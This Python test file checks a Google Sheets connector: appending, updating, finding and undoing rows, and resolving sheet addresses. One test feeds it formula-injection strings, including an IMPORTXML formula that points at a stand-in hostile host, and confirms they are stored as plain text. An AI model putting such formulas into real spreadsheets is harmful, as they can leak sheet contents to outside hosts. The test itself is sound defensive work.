"""Rows of a Google sheet: added once under their headings, changed by a value, found after a lost answer, taken back."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from app.core.answers import Kind
from app.practice.vendors.google.sheets import BOOK
from connectors.contract import Refused
from connectors.google._sheets_place import letters, read_place
from tests.connectors.google_sheets import (
    ADDRESS,
    HEADINGS,
    ORDERS,
    SPREADSHEETS,
    STOCK,
    book,
    by_hand,
    lines,
    with_lines,
)
from tests.connectors.stand import KEY, Stand, reopened

ROW = {"Name": "Cy Example", "Amount": 12.5, "Order number": 1043}
ADDED = {"sheet": ORDERS, "rows": [ROW]}
PAID = {"sheet": ORDERS, "by": "Order number", "value": "1042", "fields": {"Status": "paid", "Amount": 8}}
FAULTS = [("cut_before", 0), ("cut_after", 1), ("status_after", 1), ("rubbish", 1)]


@pytest.fixture
def shop() -> Iterator[Stand]:
    with book(sheets="") as stand:
        yield stand


# --- adding -----------------------------------------------------------------------------------------------------------


def test_a_row_stands_under_its_headings_with_our_key_beside_it(shop: Stand) -> None:
    made = shop.do("append_rows", KEY, **ADDED)
    assert lines(shop)[0] == [*HEADINGS, "Patchbay key"]
    assert lines(shop)[3] == [1043, "Cy Example", "", 12.5, "", KEY]
    assert made["rows"] == [4]
    assert made["url"] == f"https://docs.google.com/spreadsheets/d/{BOOK}/edit#gid=0&range=A4"
    assert shop.effects() == ["sheet.updateCells", "rows.append"]
    shop.do("append_rows", "hub-another", **ADDED)
    assert shop.effects() == ["sheet.updateCells", "rows.append", "rows.append"], "one column for all"


def test_text_from_outside_never_becomes_a_formula(shop: Stand) -> None:
    bad = ['=IMPORTXML("https://evil.example")', "+1+1", "-2", "@SUM(A1)", "'quoted", "=1", "1042"]
    shop.do("append_rows", KEY, sheet=ORDERS, rows=[{"Name": text} for text in bad])
    assert [line[1] for line in lines(shop)[3:]] == bad
    shop.do("update_rows", KEY, **{**PAID, "fields": {"Name": "=1+1"}})
    assert lines(shop)[2][1] == "=1+1"
    sent = [one for one in shop.asked("POST") if "append" in one["path"]]
    assert all("valueInputOption=RAW" in one["query"] for one in sent)


@pytest.mark.parametrize(("fault", "arrived"), FAULTS)
@pytest.mark.parametrize("count", [1, 3])
def test_rows_whose_answer_was_lost_are_found(shop: Stand, fault: str, arrived: int, count: int) -> None:
    shop.do("append_rows", "hub-another", **ADDED)
    found = shop.lost("append_rows", fault, sheet=ORDERS, rows=[ROW] * count)
    assert len(found) == arrived
    assert [one["rows"] for one in found] == [list(range(5, 5 + count))] * arrived


def test_rows_are_found_wherever_they_were_sorted_to(shop: Stand) -> None:
    shop.do("append_rows", KEY, **ADDED)
    with_lines(shop, lambda it: it.insert(1, it.pop()))
    action, given = shop.action("append_rows"), shop.prepared("append_rows", **ADDED)
    assert action.find
    assert action.find(shop.client, KEY, given)[0]["rows"] == [2]
    assert action.find(shop.client, "hub-another", given) == []


def test_what_is_there_only_in_part_or_twice_is_for_a_person(shop: Stand) -> None:
    two = {"sheet": ORDERS, "rows": [ROW, ROW]}
    shop.do("append_rows", KEY, **two)
    with_lines(shop, lambda it: it.pop())
    action = shop.action("append_rows")
    assert action.find
    assert len(action.find(shop.client, KEY, shop.prepared("append_rows", **two))) == 2


def test_the_row_goes_below_its_own_table_and_not_below_another_one(shop: Stand) -> None:
    with_lines(shop, lambda it: it.extend([[], ["Total", "", "", 25.5], ["", "", "", "", "checked"]]))
    shop.do("append_rows", KEY, **ADDED)
    assert [line[:2] for line in lines(shop)[3:6]] == [[1043, "Cy Example"], [], ["Total", ""]]


def test_a_sheet_with_headings_only_and_a_grid_that_ends_there(shop: Stand) -> None:
    by_hand(shop, lines=[HEADINGS], columns=5, rows=1)
    shop.do("append_rows", KEY, **ADDED)
    assert lines(shop)[1] == [1043, "Cy Example", "", 12.5, "", KEY]


def test_headings_stand_in_the_last_frozen_row_of_a_sheet_with_any_name(shop: Stand) -> None:
    by_hand(shop, lines=[["All orders"], HEADINGS, [1041, "Ann"]], frozen=2, title="It's = 'orders'")
    assert shop.do("append_rows", KEY, **ADDED)["rows"] == [4]
    assert lines(shop)[3][1] == "Cy Example"


@pytest.mark.parametrize(
    ("change", "given", "says"),
    [
        ({}, {"rows": [{"Price": 1}]}, "no column “Price”.*Order number.*Change the recipe or the sheet"),
        ({"lines": [["Name", "", "Email"]]}, {}, "Column B of “Orders” has no heading"),
        ({"lines": [["Name", "name", "Name"]]}, {}, "Two columns of “Orders” are called “Name”"),
        ({"lines": []}, {}, "no headings in row 1"),
        ({"lines": [HEADINGS, [1, 2, 3, 4, 5, "a note"]]}, {}, "Column F of “Orders” holds something"),
        ({}, {"rows": []}, "1 to 500 rows"),
        ({}, {"rows": [ROW] * 501}, "1 to 500 rows"),
        ({}, {"rows": [{"Name": {"first": "Cy"}}]}, "not one value"),
        ({}, {"rows": [{"Name": "a" * 50_001}]}, "50000 characters"),
        ({}, {"rows": [{"Name": "a", "name": "b"}]}, "named twice"),
        ({}, {"sheet": f"{BOOK}/5"}, "no longer in the spreadsheet"),
        ({}, {"sheet": "1" * 30}, "not there, or this Google account does not see it"),
        ({}, {"sheet": "https://docs.google.com/document/d/1"}, "no address of a Google sheet"),
    ],
)
def test_what_cannot_be_added_says_what_to_do(shop: Stand, change: Any, given: Any, says: str) -> None:
    by_hand(shop, **change)
    given = {"sheet": ORDERS, "rows": [{"Name": "Cy"}], **given}
    with pytest.raises(Refused, match=says):
        shop.do("append_rows", KEY, **given)
    assert "rows.append" not in shop.effects()


def test_lists_are_written_as_one_text_and_nothing_as_nothing(shop: Stand) -> None:
    shop.do("append_rows", KEY, sheet=ORDERS, rows={"Name": ["a", "b"], "Email": None, "Status": True})
    assert lines(shop)[3] == ["", "a, b", "", "", True, KEY]


def test_columns_that_were_moved_between_approval_and_sending_stop_it(shop: Stand) -> None:
    shop.do("append_rows", "hub-another", **ADDED)
    given = shop.prepared("append_rows", **ADDED)
    with_lines(shop, lambda it: it[0].insert(0, "New"))
    with pytest.raises(Refused, match="Start this event over"):
        shop.before("append_rows", **given)


@pytest.mark.parametrize(("fault", "arrived"), FAULTS)
def test_the_column_for_our_key_is_made_once(shop: Stand, fault: str, arrived: int) -> None:
    assert len(shop.lost("add_key_column", fault, sheet=ORDERS)) == arrived


# --- taking back what was added ---------------------------------------------------------------------------------------


def test_added_rows_are_deleted_wherever_they_are_by_now(shop: Stand) -> None:
    two = {"sheet": ORDERS, "rows": [ROW, {"Name": "Di"}]}
    made = shop.do("append_rows", KEY, **two)
    with_lines(shop, lambda it: it.insert(1, it.pop()))
    given = shop.prepared("append_rows", **two)
    undo = shop.action("append_rows").undo
    assert undo
    assert undo.changed(shop.client, given, made, 0) is None
    shop.call(undo.call(given, made, None))
    assert [line[:2] for line in lines(shop)[1:]] == [[1041, "Ann Example"], [1042, "Bob Example"]]
    assert "deleted or copied" in str(undo.changed(shop.client, given, made, 0))


def test_a_row_in_which_somebody_wrote_stays(shop: Stand) -> None:
    made = shop.do("append_rows", KEY, **ADDED)
    given = shop.prepared("append_rows", **ADDED)
    with_lines(shop, lambda it: it[3].__setitem__(4, "shipped"))
    assert shop.undo("append_rows", given, made) == "Somebody has changed “Status” of row 4 in Google Sheets since."
    assert len(lines(shop)) == 4


@pytest.mark.parametrize(("fault", "arrived"), FAULTS)
def test_a_deletion_whose_answer_was_lost_is_found(shop: Stand, fault: str, arrived: int) -> None:
    made = shop.do("append_rows", KEY, **ADDED)
    assert len(shop.lost("delete_rows", fault, sheet=ORDERS, mark=KEY, rows=made["rows"])) == arrived


def test_rows_that_move_before_they_are_deleted_stay(shop: Stand) -> None:
    made = shop.do("append_rows", KEY, **ADDED)
    given = shop.prepared("delete_rows", sheet=ORDERS, mark=KEY, rows=made["rows"])
    with_lines(shop, lambda it: it.insert(1, [1040, "Di"]))
    with pytest.raises(Refused, match="none was deleted"):
        shop.before("delete_rows", **given)


# --- changing ---------------------------------------------------------------------------------------------------------


def test_a_row_is_changed_by_a_value_and_changed_back(shop: Stand) -> None:
    given = shop.prepared("update_rows", **PAID)
    before = shop.before("update_rows", **given)
    made = shop.do("update_rows", KEY, **PAID)
    assert lines(shop)[2] == [1042, "Bob Example", "bob@client.example", 8, "paid"]
    assert lines(shop)[1][4] == "paid", "the others are left alone"
    assert made["rows"] == [3]
    assert shop.undo("update_rows", given, made, before) is None
    assert lines(shop)[2] == [1042, "Bob Example", "bob@client.example", 7, "open"]
    assert "Somebody has changed the same cells" in str(shop.undo("update_rows", given, made, before))


def test_several_rows_are_changed_only_if_that_was_meant(shop: Stand) -> None:
    with_lines(shop, lambda it: it.append([1042, " bob EXAMPLE ", "", 1, "open"]))
    by_name = {"sheet": ORDERS, "by": "name", "value": "Bob Example", "fields": {"Status": "paid"}}
    with pytest.raises(Refused, match=r"Several rows .*\(3, 4\).*several: true"):
        shop.prepared("update_rows", **by_name)
    shop.do("update_rows", KEY, **by_name, several=True)
    assert [line[4] for line in lines(shop)[2:]] == ["paid", "paid"]


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"value": "999"}, "No row of “Orders” has “999” in the column “Order number”"),
        ({"value": ""}, "no value by which a row"),
        ({"by": "Number"}, "no column “Number”"),
        ({"fields": {}}, "Name the columns to write"),
        ({"fields": {"Price": 1}}, "no column “Price”"),
    ],
)
def test_a_row_that_cannot_be_changed_says_what_to_do(shop: Stand, change: Any, says: str) -> None:
    with pytest.raises(Refused, match=says):
        shop.prepared("update_rows", **{**PAID, **change})


@pytest.mark.parametrize(("fault", "arrived"), FAULTS)
def test_a_change_whose_answer_was_lost_is_compared(shop: Stand, fault: str, arrived: int) -> None:
    assert len(shop.lost("update_rows", fault, **PAID)) == arrived


def test_a_row_that_moved_between_approval_and_sending_is_not_overwritten(shop: Stand) -> None:
    given = shop.prepared("update_rows", **PAID)
    with_lines(shop, lambda it: it.insert(1, [1040, "Di"]))
    with pytest.raises(Refused, match="moved in the meantime, so nothing was written"):
        shop.before("update_rows", **given)
    action = shop.action("update_rows")
    assert action.find
    assert action.find(shop.client, KEY, given) == []


def test_formulas_are_not_overwritten(shop: Stand) -> None:
    chair = {"sheet": STOCK, "by": "Item", "value": "Chair", "fields": {"Value": 1}}
    with pytest.raises(Refused, match="“Value” in row 2 holds a formula"):
        shop.before("update_rows", **shop.prepared("update_rows", **chair))
    shop.do("update_rows", KEY, **{**chair, "fields": {"Count": 13}})
    assert lines(shop, 77)[1][1] == 13


@pytest.mark.parametrize(("fault", "arrived"), FAULTS)
def test_cells_that_are_written_back_are_compared(shop: Stand, fault: str, arrived: int) -> None:
    cells = {"3": {"D": 3, "E": ""}}
    assert len(shop.lost("restore_cells", fault, sheet=ORDERS, title="Orders", cells=cells)) == arrived


def test_a_sheet_that_got_another_name_is_said(shop: Stand) -> None:
    given = shop.prepared("update_rows", **PAID)
    by_hand(shop, title="Sales")
    trouble = shop.trouble("restore_cells", sheet=ORDERS, title="Orders", cells={"3": {"D": 3}})
    assert (trouble.kind, "Unable to parse range" in trouble.words) == (Kind.REFUSED, True)
    undo = shop.action("update_rows").undo
    assert undo
    assert "another name" in str(undo.changed(shop.client, given, {}, 0))


def test_rows_are_read_by_a_value(shop: Stand) -> None:
    found = shop.action("find_rows").run(shop.client, sheet=ADDRESS, by="Status", value="Open")["rows"]
    assert found == [
        {
            "row": 3,
            "url": f"https://docs.google.com/spreadsheets/d/{BOOK}/edit#gid=0&range=A3",
            "fields": dict(zip(HEADINGS, [1042, "Bob Example", "bob@client.example", 7, "open"], strict=True)),
        }
    ]


# --- which sheet ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "place"),
    [
        (ADDRESS, ORDERS),
        (f"https://docs.google.com/spreadsheets/u/1/d/{BOOK}/edit#gid=77", STOCK),
        (f"https://docs.google.com/spreadsheets/d/{BOOK}/edit?usp=sharing", BOOK),
        (STOCK, STOCK),
    ],
)
def test_addresses_name_a_sheet(text: str, place: str) -> None:
    assert str(read_place(text)) == place


@pytest.mark.parametrize(
    "text", ["", "Orders", "https://docs.google.com/spreadsheets/d/e/2PACX-1vQ/pubhtml", "https://evil.example/x"]
)
def test_what_is_no_address_is_said(text: str) -> None:
    with pytest.raises(Refused, match="no address of a Google sheet"):
        read_place(text)


def test_sheets_are_chosen_by_address_or_from_those_that_are_watched(shop: Stand) -> None:
    assert [(one.id, one.label) for one in shop.resolve("sheet", ADDRESS)] == [(ORDERS, "Practice shop › Orders")]
    assert len(shop.resolve("sheet", BOOK)) == 2
    assert shop.choices("sheet") == []
    watching = reopened(shop, sheets=ADDRESS)
    assert [one.id for one in watching.choices("sheet", "stock")] == [STOCK]


def test_the_list_holds_what_this_app_made_and_none_that_is_gone(shop: Stand) -> None:
    kind = "application/vnd.google-apps.spreadsheet"
    for own in (BOOK, "1" * 30):
        body = {"name": "x", "mimeType": kind}
        made = shop.client.drive.files().create(body=body).execute()["id"]
        shop.served.control("google_book", {"id": made, "title": f"Book {own[:3]}", "sheets": []})
    found = shop.choices("sheet")
    assert found == [], "books without sheets"
    sheets = [{"gid": 3, "title": "Tab", "frozen": 0, "lines": [], "rows": 5, "columns": 5}]
    shop.served.control("google_book", {"id": made, "title": "Mine", "sheets": sheets})
    assert [one.label for one in shop.choices("sheet")] == ["Mine › Tab"]


def test_what_was_left_out_at_the_sign_in_is_said(shop: Stand) -> None:
    with pytest.raises(Refused, match="read and change your spreadsheets"):
        reopened(shop, scope="openid").prepared("append_rows", **ADDED)
    only = reopened(shop, scope=f"openid {SPREADSHEETS}", sheets=ADDRESS)
    assert len(only.choices("sheet")) == 2


def test_letters_of_columns() -> None:
    assert [letters(n) for n in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]
